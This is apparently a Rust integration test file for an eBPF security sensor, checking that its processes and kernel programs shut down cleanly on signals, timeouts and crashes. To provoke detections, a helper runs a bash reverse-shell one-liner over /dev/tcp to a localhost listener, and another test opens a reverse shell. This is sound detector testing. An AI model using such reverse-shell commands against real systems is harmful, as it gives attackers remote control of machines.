//! However a run ends, everything ends: both processes, and the programs in the kernel.

use std::{
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use nix::sys::signal::Signal;
use sentinel_tests::{
    bed::Bed,
    peer::{self, Peer},
    sentinel::{
        Outcome, PATIENCE, Sentinel, alerts, bpf_programs_of, is_running, loaded_bpf_programs,
        program, send, within,
    },
};

/// The other process may take so long, and half a second more on a machine that is busy with other
/// tests.
const A_SECOND: Duration = Duration::from_millis(1500);

/// One real alert, so that there is a log to look at.
fn provoke_alert(bed: &Bed) {
    let peer = Peer::listen("127.0.0.1");
    let code = format!("bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
    let mut command = bed.command("bash");
    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
    peer.shell().exit();
    child.wait().unwrap();
}

/// What must be gone in the end.
struct Parts {
    programs: Vec<u32>,
    processes: [u32; 2],
}

impl Parts {
    fn of(sentinel: &Sentinel) -> Self {
        let programs = bpf_programs_of(sentinel.loader());
        assert!(programs.len() >= 5, "it has programs loaded: {programs:?}");
        Self { programs, processes: [sentinel.loader(), sentinel.enforcer()] }
    }

    fn are_gone(&self) {
        for process in self.processes {
            assert!(within(PATIENCE, || !is_running(process)), "{process} still runs");
        }
        let gone = || {
            let loaded = loaded_bpf_programs();
            self.programs.iter().all(|program| !loaded.contains(program))
        };
        assert!(within(PATIENCE, gone), "programs are still loaded");
    }
}

fn ends_well(end: impl FnOnce(Sentinel) -> Outcome, arguments: &[&str]) {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, arguments);
    let parts = Parts::of(&sentinel);
    provoke_alert(&bed);
    let outcome = end(sentinel);
    assert!(outcome.status.success(), "{outcome:?}");
    assert_eq!(outcome.alerts.len(), 1);
    for word in ["Summary", "seen", "after filter", "emitted", "dropped 0"] {
        assert!(outcome.output.contains(word), "{}", outcome.output);
    }
    assert_eq!(outcome.errors, "");
    parts.are_gone();
}

#[test]
fn sigint_ends_all() {
    ends_well(|sentinel| sentinel.signal(Signal::SIGINT), &[]);
}

#[test]
fn sigterm_ends_all() {
    ends_well(|sentinel| sentinel.signal(Signal::SIGTERM), &[]);
}

#[test]
fn duration_ends_all() {
    let begun = Instant::now();
    ends_well(Sentinel::wait, &["--duration=3"]);
    assert!(begun.elapsed() >= Duration::from_secs(3) || cannot_run());
}

fn cannot_run() -> bool {
    !nix::unistd::geteuid().is_root()
}

#[test]
fn ctrl_c_at_a_terminal_ends_all_in_order() {
    let Some(bed) = Bed::new() else { return };
    // script(1) gives it a terminal; its keyboard signals the whole foreground group. Without
    // `exec` some shells stay between the two, and say 130 themselves.
    let log = bed.path("alerts.json");
    let run = format!(
        "exec {} run --scope-cgroup={} --grimoire-log={}",
        program().display(),
        bed.cgroup().display(),
        log.display()
    );
    let transcript = bed.path("transcript");
    let mut terminal = Command::new("script")
        .args(["-qefc", &run])
        .arg(&transcript)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let seen = |text: &str| {
        let bytes = std::fs::read(&transcript).unwrap_or_default();
        String::from_utf8_lossy(&bytes).contains(text)
    };
    assert!(within(Duration::from_secs(30), || seen("hooks attached")));
    provoke_alert(&bed);
    assert!(within(Duration::from_secs(5), || seen("elapsed")), "a status line");
    // The keyboard stays until the end: its end would be typed as well.
    let mut keyboard = terminal.stdin.take().unwrap();
    std::io::Write::write_all(&mut keyboard, b"\x03").unwrap();
    let status = terminal.wait().unwrap();
    assert!(status.success(), "{status}: {}", std::fs::read_to_string(&transcript).unwrap());
    assert!(seen("Summary") && seen("CRITICAL"));
    assert!(seen("\x1b["), "colour on a terminal");
    assert_eq!(alerts(&log).len(), 1);
}

#[test]
fn sudden_death_of_the_loader_ends_the_run_and_is_said() {
    let Some(bed) = Bed::new() else { return };
    let mut sentinel = Sentinel::start(&bed, &[]);
    let parts = Parts::of(&sentinel);
    provoke_alert(&bed);
    sentinel.wait_for("CRITICAL");
    send(sentinel.loader(), Signal::SIGKILL);
    let outcome = sentinel.wait();
    assert!(outcome.took < A_SECOND, "{:?}", outcome.took);
    assert_eq!(outcome.status.code(), Some(1));
    assert!(outcome.errors.contains("the loader is gone"), "{}", outcome.errors);
    assert_eq!(outcome.alerts.len(), 1);
    parts.are_gone();
}

#[test]
fn sudden_death_of_the_analyzer_ends_the_loader() {
    let Some(bed) = Bed::new() else { return };
    let mut sentinel = Sentinel::start(&bed, &[]);
    let parts = Parts::of(&sentinel);
    provoke_alert(&bed);
    sentinel.wait_for("CRITICAL");
    let log = sentinel.log().to_owned();
    let outcome = sentinel.signal(Signal::SIGKILL);
    assert!(!outcome.status.success());
    parts.are_gone();
    assert_eq!(alerts(&log).len(), 1, "whole lines");
}

#[test]
fn sudden_death_of_the_analyzer_ends_even_stopped_processes() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let parts = Parts::of(&sentinel);
    send(sentinel.loader(), Signal::SIGSTOP);
    send(sentinel.enforcer(), Signal::SIGSTOP);
    sentinel.signal(Signal::SIGKILL);
    parts.are_gone();
}

#[test]
fn a_stopped_loader_does_not_hold_up_the_end() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &[]);
    let parts = Parts::of(&sentinel);
    send(sentinel.loader(), Signal::SIGSTOP);
    let outcome = sentinel.signal(Signal::SIGTERM);
    assert!(outcome.took < 2 * A_SECOND, "{:?}", outcome.took);
    assert_eq!(outcome.status.code(), Some(1));
    assert!(outcome.errors.contains("did not end in time"), "{}", outcome.errors);
    assert!(outcome.output.contains("ended without its totals"), "{}", outcome.output);
    parts.are_gone();
}

#[test]
fn output_that_nobody_reads_does_not_hold_up_the_end() {
    let Some(bed) = Bed::new() else { return };
    let scope = format!("--scope-cgroup={}", bed.cgroup().display());
    let log = bed.path("alerts.json");
    let mut child = Command::new(program())
        .args(["run", &scope, "--grimoire-debug"])
        .arg(format!("--grimoire-log={}", log.display()))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // A small pipe, and nobody at its end.
    let stdout = child.stdout.take().unwrap();
    nix::fcntl::fcntl(&stdout, nix::fcntl::FcntlArg::F_SETPIPE_SZ(4096)).unwrap();
    // The first that is seen says that the sensor is attached.
    let seen = || {
        provoke_alert(&bed);
        !alerts(&log).is_empty()
    };
    assert!(within(Duration::from_secs(60), seen));
    let before = alerts(&log).len();
    for _ in 0..20 {
        provoke_alert(&bed);
    }
    let all = || alerts(&log).len() >= before + 20;
    let logged = within(Duration::from_secs(10), all);
    send(child.id(), Signal::SIGINT);
    assert!(within(Duration::from_secs(10), || matches!(child.try_wait(), Ok(Some(_)))));
    assert!(logged || all(), "the log is complete");
}

#[test]
fn a_closed_standard_error_is_no_reason_to_panic() {
    let Some(bed) = Bed::new() else { return };
    let run = format!(
        "{} run --scope-cgroup={} --duration=1 --grimoire-debug 2>&1 >/dev/null | true; \
         exit ${{PIPESTATUS[0]}}",
        program().display(),
        bed.cgroup().display(),
    );
    let status = Command::new("bash").args(["-c", &run]).status().unwrap();
    assert_eq!(status.code(), Some(0));
}

#[test]
fn alerts_that_wait_for_the_enforcer_are_not_lost_with_the_loader() {
    let Some(bed) = Bed::new() else { return };
    let sentinel = Sentinel::start(&bed, &["--grimoire-enforce"]);
    send(sentinel.enforcer(), Signal::SIGSTOP);
    let peer = Peer::listen("127.0.0.1");
    let mut child = peer::reverse_shell(&bed, &peer);
    let mut shell = peer.shell();
    shell.pid();
    // The shell is faster than the news of it; the alert then waits for more than two seconds.
    std::thread::sleep(Duration::from_secs(1));
    send(sentinel.loader(), Signal::SIGKILL);
    let outcome = sentinel.wait();
    shell.exit();
    child.wait().unwrap();
    assert_eq!(outcome.alerts.len(), 1, "{}", outcome.errors);
    assert!(outcome.alerts[0]["action"].as_str().unwrap().starts_with("kill_refused:no_"));
}
